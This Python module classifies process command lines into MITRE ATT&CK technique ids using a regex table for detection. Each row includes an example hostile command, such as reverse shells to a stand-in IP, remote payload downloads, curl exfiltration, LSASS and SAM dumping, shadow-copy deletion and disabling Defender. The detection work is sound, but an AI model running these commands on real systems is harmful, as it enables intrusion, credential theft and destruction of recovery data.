"""An execution → ATT&CK technique ids, from a small table of our own: what the program is, and what it was told.

Each row names the programs (without extension), a pattern over the lower-case command line ("" for any), the
technique and an example that runs as a test. The table explains; it never decides what is an anomaly. What a renamed
program is told (a tunnel, a potato) tells as much as its name: such rows are for any program.
"""

import re
from dataclasses import dataclass
from functools import lru_cache


@dataclass(frozen=True, slots=True)
class Technique:
    """One row: ``programs`` separated by spaces, ``told`` a regular expression, and an ``example`` it must match.

    A row for any program (``*``) has ``hints``, separated by spaces: without one of them the pattern is not tried.
    """

    id: str
    title: str
    programs: str
    told: str
    example: str
    hints: str = ""


def _all(*patterns: str) -> str:
    """Told each of these, in whatever order; in time that grows with the line and not with its square."""
    return "(?s)^" + "".join(f"(?=.*(?:{each}))" for each in patterns)


TECHNIQUES = (
    Technique("T1197", "BITS Jobs", "bitsadmin", r"", "bitsadmin /transfer n http://1.2.3.4/a.exe c:\\a.exe"),
    Technique("T1105", "Ingress Tool Transfer", "bitsadmin curl wget certutil ftp tftp desktopimgdownldr esentutl certoc certreq mpcmdrun aria2c lwp-download lwp-request", r"://|-s:|urlcache|\bget\b|\\\\|\s\d{1,3}(?:\.\d{1,3}){3}", "certutil -urlcache -f http://1.2.3.4/a a.exe"),
    Technique("T1105", "Ingress Tool Transfer", "powershell pwsh sqlps iwr irm", r"downloadfile|downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\b(?:iwr|irm)\b|start-bitstransfer|net\.webclient|\b(?:curl|wget)\s+\S*://", "powershell iwr http://1.2.3.4/a -outfile a.exe"),
    Technique("T1562.001", "Disable or Modify Tools", "taskkill", r"/im|/pid|-im|-pid", "taskkill /im 360rp.exe /f"),
    Technique("T1562.001", "Disable or Modify Tools", "ntsd cdb", r"-pn?\b", "ntsd -c q -pn 360sd.exe"),
    Technique("T1562.001", "Disable or Modify Tools", "powershell pwsh sqlps set-mppreference add-mppreference", r"set-mppreference|add-mppreference", "powershell Set-MpPreference -DisableRealtimeMonitoring 1"),
    Technique("T1562.001", "Disable or Modify Tools", "sc net net1 reg systemctl service setenforce", _all(r"\b(?:stop|delete|config|disable|mask)\b|disable|\b(?:0|permissive)\b", r"\b(?:windefend|wdnissvc|wscsvc|sense|sysmon\w{0,9}|auditd|apparmor|falcon-sensor|mdatp|setenforce)\b|windows defender"), "sc config windefend start= disabled"),
    Technique("T1489", "Service Stop", "net net1 sc systemctl service", r"\bstop\b", "net stop mssqlserver"),
    Technique("T1562.004", "Disable or Modify System Firewall", "netsh iptables ufw firewall-cmd", r"firewall|-f\b|disable|--add", "netsh advfirewall set allprofiles state off"),
    Technique("T1059.003", "Windows Command Shell", "cmd", r"", "cmd /c whoami"),
    Technique("T1059.001", "PowerShell", "powershell pwsh powershell_ise sqlps", r"", "powershell -c 1"),
    Technique("T1059.004", "Unix Shell", "sh bash dash zsh busybox", r"-c\b|-i\b", "sh -c id"),
    Technique("T1059.005", "Visual Basic", "wscript cscript", r"\.vb[se]\b", "cscript a.vbs"),
    Technique("T1059.006", "Python", "python python2 python3 pythonw", r"", "python3 a.py"),
    Technique("T1059.007", "JavaScript", "wscript cscript mshta node", r"\.jse?\b|javascript:|\s-e\b", "wscript a.js"),
    Technique("T1059", "Command and Scripting Interpreter", "perl perl5 php php5 php7 php8 ruby lua awk gawk", r"\s-(?:e|r|n?e)\b|system\(|/inet/tcp", "perl -e 'use Socket'"),
    Technique("T1095", "Non-Application Layer Protocol", "nc ncat netcat socat", r"\s-(?:e|c|lv?n?v?p?e?)\b|exec:|--(?:sh-)?exec\b", "nc -e /bin/sh 1.2.3.4 443"),
    Technique("T1095", "Non-Application Layer Protocol", "perl perl5 python python2 python3 php php5 php7 php8 ruby lua powershell pwsh sqlps", r"\bsocket\b.{0,400}(?:connect|inet|exec|dup2)|fsockopen|tcpsocket|sockets\.tcpclient", "python3 -c 'import socket,os;s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0)'"),
    Technique("T1095", "Non-Application Layer Protocol", "*", r"/dev/(?:tcp|udp)/\S+", "bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "/dev/tcp/ /dev/udp/"),
    Technique("T1572", "Protocol Tunneling", "ssh plink plink64 putty kitty dropbear dbclient", r"\s-[a-z0-9]{0,6}[rl]\s*(?:[\w.*\[\]-]{0,64}:)?\d+:[^\s:]+:\d+|\s-[a-z0-9]{0,6}[rd]\s*(?:[\w.*-]{1,64}:)?\d{2,5}(?:\s|$)", "plink -ssh -R 4444:127.0.0.1:3389 -l root 1.2.3.4"),
    Technique("T1572", "Protocol Tunneling", "ngrok cloudflared frpc frps chisel ligolo-ng bore gost rathole devtunnel iodine dnscat dnscat2 dns2tcp wstunnel", r"", "ngrok tcp 3389"),
    Technique("T1572", "Protocol Tunneling", "*", r"\sr:(?:socks\b|[\d.]{1,15}:)|\btunnel\s+(?:run|--url|create)\b|\bfrpc\.(?:ini|toml)\b|\bauthtoken\s+\S{16}", "svc client 1.2.3.4:8443 R:socks", "r: tunnel frpc authtoken"),
    Technique("T1090", "Proxy", "*", r"\br:socks\b|\bsocks5?://|--socks5\b", "x client 1.2.3.4:8443 R:socks", "socks"),
    Technique("T1090.001", "Internal Proxy", "netsh socat", r"portproxy\s+add|tcp\d?-listen", "netsh interface portproxy add v4tov4 listenport=1 connectport=2"),
    Technique("T1219", "Remote Access Software", "anydesk teamviewer rustdesk ateraagent supremo ultraviewer radmin meshagent screenconnect.clientservice tailscaled remoting_host", r"", "anydesk --install c:\\a --silent"),
    Technique("T1134.001", "Token Impersonation/Theft", "*", r"(?:juicy|rogue|god|sweet|bad|efs|rotten|local|generic|dcom|remote|coerced|petit|sigma|s4u|prompt|ghost)potato|printspoofer|\sincognito|\s-t\s+[*tu]\s+-[pl]\s|\s-p\s+\S{1,260}\s+-t\s+(?:\*|t|u)(?!\S)|\s-i\s+-c\s+\"?(?:cmd|powershell)\b|\s-cmd\s+\"?cmd(?:\.exe)?\s", "pv -i -c cmd", "potato printspoofer incognito -t -c"),
    Technique("T1027", "Obfuscated Files or Information", "powershell pwsh sqlps", r"[-/]e(nc?\w*)?\s+[a-z0-9+/=]{16}", "powershell -enc SQBFAFgAIABhAGIAYwBkAGUAZg=="),
    Technique("T1218.011", "Rundll32", "rundll32", r"", "rundll32 a.dll,b"),
    Technique("T1218.010", "Regsvr32", "regsvr32", r"", "regsvr32 /s a.dll"),
    Technique("T1218.005", "Mshta", "mshta", r"", "mshta http://1.2.3.4/a.hta"),
    Technique("T1218.007", "Msiexec", "msiexec", r"/[iyqz]|-[iyqz]", "msiexec /q /i http://1.2.3.4/a.msi"),
    Technique("T1218.004", "InstallUtil", "installutil", r"", "installutil a.dll"),
    Technique("T1218.003", "CMSTP", "cmstp", r"", "cmstp /s a.inf"),
    Technique("T1218.008", "Odbcconf", "odbcconf", r"regsvr|-f\b|/f\b", "odbcconf /a {regsvr a.dll}"),
    Technique("T1218.013", "Mavinject", "mavinject mavinject64", r"", "mavinject 100 /injectrunning a.dll"),
    Technique("T1220", "XSL Script Processing", "wmic msxsl", r"format:\S{0,20}://|\.xsl\b", "wmic os get /format:http://1.2.3.4/a.xsl"),
    Technique("T1202", "Indirect Command Execution", "forfiles pcalua scriptrunner", r"/c|-a\b|-appvscript", "forfiles /c a.exe"),
    Technique("T1218.009", "Regsvcs/Regasm", "regsvcs regasm", r"", "regasm a.dll"),
    Technique("T1127.001", "MSBuild", "msbuild", r"", "msbuild a.xml"),
    Technique("T1140", "Deobfuscate/Decode Files or Information", "certutil", r"decode", "certutil -decode a b"),
    Technique("T1140", "Deobfuscate/Decode Files or Information", "base64 openssl powershell pwsh sqlps", r"\s(?:-d|-di|--decode)\b|frombase64string", "base64 -d"),
    Technique("T1564.003", "Hidden Window", "powershell pwsh sqlps", r"\s[-/]w\w*\s+(?:h\w*|1)\b", "powershell -w hidden -c 1"),
    Technique("T1620", "Reflective Code Loading", "powershell pwsh sqlps", r"assembly\]::load\b", "powershell [Reflection.Assembly]::Load(1)"),
    Technique("T1033", "System Owner/User Discovery", "whoami quser query id w who groups", r"", "whoami /priv"),
    Technique("T1082", "System Information Discovery", "systeminfo hostname uname ver lscpu lsb_release hostnamectl", r"", "systeminfo"),
    Technique("T1016", "System Network Configuration Discovery", "ipconfig ifconfig arp route nbtstat ip", r"", "ipconfig /all"),
    Technique("T1016.001", "Internet Connection Discovery", "nslookup dig host ping curl wget certutil", r"\.(?:oast\.\w+|oastify\.com|interact\.sh|burpcollaborator\.net|dnslog\.\w+|ceye\.io)\b|\b(?:ifconfig\.(?:me|co)|ipinfo\.io|icanhazip\.com|api\.ipify\.org)\b", "nslookup a1b2.oast.fun"),
    Technique("T1135", "Network Share Discovery", "net net1 smbclient", r"\bshare\b|\s-l\b", "net share"),
    Technique("T1049", "System Network Connections Discovery", "netstat ss", r"", "netstat -ano"),
    Technique("T1057", "Process Discovery", "tasklist ps qprocess", r"", "tasklist /v"),
    Technique("T1018", "Remote System Discovery", "net net1 nltest ping", r"\bview\b|dclist|ping", "net view /domain"),
    Technique("T1482", "Domain Trust Discovery", "nltest dsquery", r"trust", "nltest /domain_trusts"),
    Technique("T1087", "Account Discovery", "net net1 dsquery", r"\buser\b(?!.*/add)|\bgroup\b(?!.*/add)", "net user"),
    Technique("T1136", "Create Account", "net net1", r"\buser\b.*/add", "net user x y /add"),
    Technique("T1087.001", "Local Account", "cat head tail less more getent cut awk grep", r"/etc/passwd\b|getent\s+passwd", "cat /etc/passwd"),
    Technique("T1087.002", "Domain Account", "adfind csvde ldifde ldapsearch sharphound", r"", "adfind -f objectclass=user"),
    Technique("T1518.001", "Security Software Discovery", "wmic powershell pwsh sqlps", r"securitycenter2|antivirusproduct|get-mp(?:computerstatus|preference)", "wmic /namespace:root\\securitycenter2 path antivirusproduct get displayname"),
    Technique("T1136", "Create Account", "powershell pwsh sqlps new-localuser new-aduser", r"new-(?:localuser|aduser)", "powershell New-LocalUser x"),
    Technique("T1136", "Create Account", "useradd adduser", r"", "useradd -o -u 0 x"),
    Technique("T1098", "Account Manipulation", "net net1 usermod", r"localgroup\b.*/add|group\b.*/add|-ag", "net localgroup administrators x /add"),
    Technique("T1003.001", "LSASS Memory", "procdump procdump64 rundll32 sqldumper nanodump dumpert taskmgr", r"lsass|minidump|comsvcs(?:\.dll)?\W{1,4}\+?0*24\b", "procdump -ma lsass.exe a.dmp"),
    Technique("T1003.001", "LSASS Memory", "*", r"sekurlsa::|comsvcs(?:\.dll)?\W{1,4}(?:minidump|\+?0*24)\b|minidump\s+\d", "x rundll32 c:\\windows\\system32\\comsvcs.dll, MiniDump 624 a.dmp full", "sekurlsa comsvcs minidump"),
    Technique("T1003.002", "Security Account Manager", "copy xcopy robocopy esentutl", r"config\\sam\b", "copy \\\\?\\globalroot\\device\\harddiskvolumeshadowcopy1\\windows\\system32\\config\\sam a"),
    Technique("T1003.002", "Security Account Manager", "reg", r"\b(?:save|export)\b.*\b(?:hklm|hkey_local_machine)\\(?:sam|system)(?![\w\\])", "reg save hklm\\sam a"),
    Technique("T1003.003", "NTDS", "esentutl copy xcopy robocopy", r"ntds|/vss", "copy ntds"),
    Technique("T1003.003", "NTDS", "ntdsutil", r"\bifm\b|\bcreate (?:full|nofull|sysvol|rodc)\b", "ntdsutil ifm"),
    Technique("T1003.004", "LSA Secrets", "*", r"lsadump::|hklm\\security\b|policy\\secrets", "x lsadump::secrets", "lsadump hklm secrets"),
    Technique("T1003.008", "/etc/passwd and /etc/shadow", "cat cp tail head less more grep awk cut tar scp unshadow", r"/etc/g?shadow\b", "cat /etc/shadow"),
    Technique("T1006", "Direct Volume Access", "vssadmin wmic diskshadow", r"\bcreate\b", "vssadmin create shadow /for=c:"),
    Technique("T1552.001", "Credentials In Files", "cat type head tail less more grep findstr", r"wp-config\.php|configuration\.php|settings\.php|web\.config|/\.env\b|\.aws/credentials|unattend\.xml|\.pgpass|\.my\.cnf", "cat /var/www/wp-config.php"),
    Technique("T1552.004", "Private Keys", "cat cp head tail less more scp find", r"\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.ssh/", "cat /root/.ssh/id_rsa"),
    Technique("T1552.005", "Cloud Instance Metadata API", "*", r"\b169\.254\.169\.254\b|metadata\.google\.internal", "curl http://169.254.169.254/latest/meta-data", "169.254 metadata.google"),
    Technique("T1555.004", "Windows Credential Manager", "cmdkey vaultcmd", r"list", "cmdkey /list"),
    Technique("T1558.003", "Kerberoasting", "setspn rubeus", r"-q|-t|kerberoast", "setspn -t corp -q */*"),
    Technique("T1548.001", "Setuid and Setgid", "find chmod", r"-perm\s+[-/]?(?:u=s|g=s|[246]000)\b|\b[ug]?\+s\b|\s[246][0-7]{3}\s", "find / -perm -4000 -type f"),
    Technique("T1574.006", "Dynamic Linker Hijacking", "*", r"\bld_preload=|/etc/ld\.so\.preload", "x ld_preload=/tmp/a.so id", "ld_preload ld.so.preload"),
    Technique("T1505.003", "Web Shell", "*", _all(r">|\b(?:copy|move|cp|mv)\b|\s-o\b|-outfile|set-content|out-file", r"wwwroot|aspnet_client|webapps|htdocs|template\\layouts|/var/www/|frontend\\httpproxy", r"\.(?:aspx?|ashx|asmx|cer|jspx?|php\d?|phtml)\b"), "echo x > c:\\inetpub\\wwwroot\\a.aspx", ".as .jsp .php .phtml .cer"),
    Technique("T1547.001", "Registry Run Keys / Startup Folder", "reg powershell pwsh sqlps copy move", _all(r"\badd\b|\bset-item|\bnew-item|\bcopy\b|\bmove\b", r"\\currentversion\\run(?:once)?\b|\\start menu\\programs\\startup"), "reg add hklm\\software\\microsoft\\windows\\currentversion\\run /v a"),
    Technique("T1546.012", "Image File Execution Options Injection", "reg powershell pwsh sqlps", r"image file execution options", "reg add hklm\\x\\image file execution options\\sethc.exe"),
    Technique("T1098.004", "SSH Authorized Keys", "*", _all(r">|\b(?:cp|mv|tee)\b", "authorized_keys"), "echo a >> /root/.ssh/authorized_keys", "authorized_keys"),
    Technique("T1112", "Modify Registry", "reg", r"\badd\b|\bdelete\b", "reg add hklm\\x"),
    Technique("T1053.005", "Scheduled Task", "schtasks at", r"", "schtasks /create /tn a"),
    Technique("T1053.005", "Scheduled Task", "powershell pwsh sqlps register-scheduledtask", r"register-scheduled(?:task|job)", "powershell Register-ScheduledTask a"),
    Technique("T1053.003", "Cron", "crontab", r"", "crontab -"),
    Technique("T1053.003", "Cron", "*", _all(r">|\b(?:cp|mv|tee)\b", r"/(?:etc|var/spool)/cron"), "echo a > /etc/cron.d/a", "/cron"),
    Technique("T1543.003", "Windows Service", "powershell pwsh sqlps new-service nssm", r"new-service|\binstall\b", "powershell New-Service a"),
    Technique("T1543.003", "Windows Service", "sc", r"\bcreate\b|\bconfig\b", "sc create a binpath= b"),
    Technique("T1543.002", "Systemd Service", "systemctl", r"enable|start|daemon-reload", "systemctl enable a"),
    Technique("T1047", "Windows Management Instrumentation", "wmic wmiprvse", r"", "wmic process call create a"),
    Technique("T1021.002", "SMB/Windows Admin Shares", "net net1 psexec psexec64 paexec", r"\\\\", "net use \\\\1.2.3.4\\c$"),
    Technique("T1021.006", "Windows Remote Management", "winrs powershell pwsh sqlps", r"\bwinrs\b|invoke-command\s.{0,200}-(?:computername|cn)\b|enter-pssession|new-pssession", "winrs -r:srv a"),
    Technique("T1569.002", "Service Execution", "psexec psexec64 paexec psexesvc", r"", "psexec \\\\1.2.3.4 a"),
    Technique("T1570", "Lateral Tool Transfer", "copy xcopy robocopy scp", r"\\\\[\w.-]+\\(?:admin|[a-z])\$", "copy a.exe \\\\1.2.3.4\\c$\\a.exe"),
    Technique("T1490", "Inhibit System Recovery", "powershell pwsh sqlps", _all("win32_shadowcopy", "delete"), "powershell Get-WmiObject Win32_Shadowcopy | % {$_.Delete()}"),
    Technique("T1490", "Inhibit System Recovery", "vssadmin wbadmin bcdedit wmic", r"delete|recoveryenabled|resize", "vssadmin delete shadows /all"),
    Technique("T1070.004", "File Deletion", "del erase rm", r"", "del a.txt"),
    Technique("T1070.001", "Clear Windows Event Logs", "wevtutil", r"\bcl\b|clear", "wevtutil cl security"),
    Technique("T1070.003", "Clear Command History", "*", r"\bhistory\s+-c\b|\bhistfile=|\bhistsize=0|>\s*\S*\.bash_history", "x unset histfile=/dev/null", "hist"),
    Technique("T1222", "File and Directory Permissions Modification", "icacls cacls takeown attrib chmod chattr chown", r"", "icacls a /grant x:f"),
    Technique("T1564.001", "Hidden Files and Directories", "attrib", r"\+h", "attrib +h a"),
    Technique("T1560.001", "Archive via Utility", "7z 7za 7zr 7zg rar winrar makecab", r"\ba\b|-hp|-p", "7z a x.7z y"),
    Technique("T1567.002", "Exfiltration to Cloud Storage", "rclone megacmd mega-put megatools", r"", "rclone copy d:\\backup m:x"),
    Technique("T1567.002", "Exfiltration to Cloud Storage", "*", _all(r"\b(?:copy|sync)\s", r"--(?:transfers|multi-thread-streams|no-check-certificate)\b"), "svchost copy d:\\backup m:x --transfers 12", "--transfers --multi-thread --no-check"),
    Technique("T1048", "Exfiltration Over Alternative Protocol", "curl", r"\s-f\s+\"?\w+=@|--upload-file|--form\b|\s-t\s+\S|--data(?:-binary)?[ =]@|\s-d\s+@", "curl -F f=@c:\\windows\\win.ini http://1.2.3.4/"),
    Technique("T1496", "Resource Hijacking", "xmrig minerd", r"", "xmrig -o pool"),
    Technique("T1496", "Resource Hijacking", "*", r"stratum\+|--donate-level|cryptonight|randomx", "x -o stratum+tcp://pool:3333", "stratum donate crypton randomx"),
    Technique("T1046", "Network Service Discovery", "nmap masscan zmap fscan portqry nc ncat", r"", "nmap 10.0.0.0/8"),
)  # fmt: skip

_Test = tuple[re.Pattern[str], str]


def _by_program() -> dict[str, tuple[_Test, ...]]:
    """What is tried of each program's command lines, in the order of the table."""
    found: dict[str, list[_Test]] = {}
    for row in TECHNIQUES:
        for program in () if row.programs == "*" else row.programs.split():
            found.setdefault(program, []).append((re.compile(row.told), row.id))
    return {program: tuple(tests) for program, tests in found.items()}


_OF_PROGRAM = _by_program()
_OF_ANY = tuple((row.hints.split(), re.compile(row.told), row.id) for row in TECHNIQUES if row.programs == "*")
_HINTS = tuple({hint for hints, _, _ in _OF_ANY for hint in hints})
_MOST_LOOKED_AT = 8192  # characters of a command line that are looked at
TITLES = {row.id: row.title for row in TECHNIQUES}


@lru_cache(maxsize=65_536)
def techniques(name: str, command_line: str) -> tuple[str, ...]:
    """The technique ids of one execution: ``name`` its file name (any case, with or without extension)."""
    stem = name.lower().rsplit(".", 1)[0] if "." in name else name.lower()
    line = command_line[:_MOST_LOOKED_AT].lower()
    own = (id for told, id in _OF_PROGRAM.get(stem, ()) if told.search(line))
    hinted = [hint for hint in _HINTS if hint in line]
    others = (
        (id for hints, told, id in _OF_ANY if any(hint in hints for hint in hinted) and told.search(line))
        if hinted
        else ()
    )
    return tuple(dict.fromkeys((*own, *others)))
